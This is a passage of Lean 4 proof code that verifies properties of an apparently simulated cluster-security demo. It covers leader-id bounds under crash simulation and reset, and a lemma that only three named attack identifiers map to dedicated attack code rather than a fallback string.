handler — changes it back to 0. -/
theorem leader_frame_counterexample :
    (run_op (Op.leaderCrash ("killLeader") sample_leader_env) init_state).leader_id = 1
    ∧ (reset_demo
        (run_op (Op.leaderCrash ("killLeader") sample_leader_env) init_state)).leader_id
      = 0
    ∧ (reset_demo
        (run_op (Op.leaderCrash ("killLeader") sample_leader_env) init_state)).leader_id
      ≠ (run_op (Op.leaderCrash ("killLeader") sample_leader_env) init_state).leader_id := by
  refine ⟨rfl, rfl, by decide⟩

/-- C9 (amended): the leader id is an integer in 0..2 in every reachable
state; it is changed only by the leader-crash simulation path (which
advances it by one mod 3) and by Reset (which restores it to 0); security
attacks leave it unchanged. -/
theorem leader_id_spec :
    (∀ ops : List Op, ∀ t ∈ trace_states ops init_state, t.leader_id < 3)
    ∧ (∀ a : String, ∀ e : AttackEnv, ∀ s : DemoState,
        (trigger_attack_run a e s).leader_id = s.leader_id)
    ∧ (∀ a : String, ∀ e : LeaderEnv, ∀ s : DemoState,
        (trigger_leader_crash_run a e s).leader_id
          = if s.is_running && !s.running_all then s.leader_id
            else (s.leader_id + 1) % 3)
    ∧ (∀ s : DemoState, (reset_demo s).leader_id = 0) := by
  refine ⟨?_, ?_, ?_, fun s => rfl⟩
  · intro ops t ht
    exact trace_states_leader_lt ops init_state (by decide) t ht
  · intro a e s
    cases hcb : (s.is_running && !s.running_all) <;>
      simp [trigger_attack_run, hcb]
  · intro a e s
    cases hcb : (s.is_running && !s.running_all) <;>
      simp [trigger_leader_crash_run, hcb]

/-- Witness for C9: the initial state of the empty event sequence. -/
theorem leader_id_spec_witness : init_state.leader_id < 3 :=
  leader_id_spec.1 [] init_state (by simp [trace_states])

/-- C10: `get_attack_code` returns the fixed fallback string for every
identifier outside the three security attacks — in particular for the
availability identifiers `killLeader` and `heartbeatTimeout` — so only
the three security attacks have dedicated Python attack code; the
function is total by construction and never fails. -/
theorem attack_code_fallback (s : String)
    (h1 : s ≠ "bufferOverflow") (h2 : s ≠ "dataExfil") (h3 : s ≠ "pathTraversal") :
    get_attack_code s = fallback_attack_code
    ∧ get_attack_code ("killLeader") = fallback_attack_code
    ∧ get_attack_code ("heartbeatTimeout") = fallback_attack_code
    ∧ get_attack_code ("bufferOverflow") ≠ fallback_attack_code
    ∧ get_attack_code ("dataExfil") ≠ fallback_attack_code
    ∧ get_attack_code ("pathTraversal") ≠ fallback_attack_code := by
  refine ⟨?_, by decide, by decide, by decide, by decide, by decide⟩
  simp [get_attack_code, h1, h2, h3]

/-- Witness for C10: the unknown identifier `"killLeader"`. -/
theorem attack_code_fallback_witness :
    get_attack_code ("killLeader") = fallback_attack_code
    ∧ get_attack_code ("killLeader") = fallback_attack_code
    ∧ get_attack_code ("heartbeatTimeout") = fallback_attack_code
    ∧ get_attack_code ("bufferOverflow") ≠ fallback_attack_code
    ∧ get_attack_code ("dataExfil") ≠ fallback_attack_code
    ∧ get_attack_code ("pathTraversal") ≠ fallback_attack_code :=
  attack_code_fallback ("killLeader") (by decide) (by decide) (by decide)
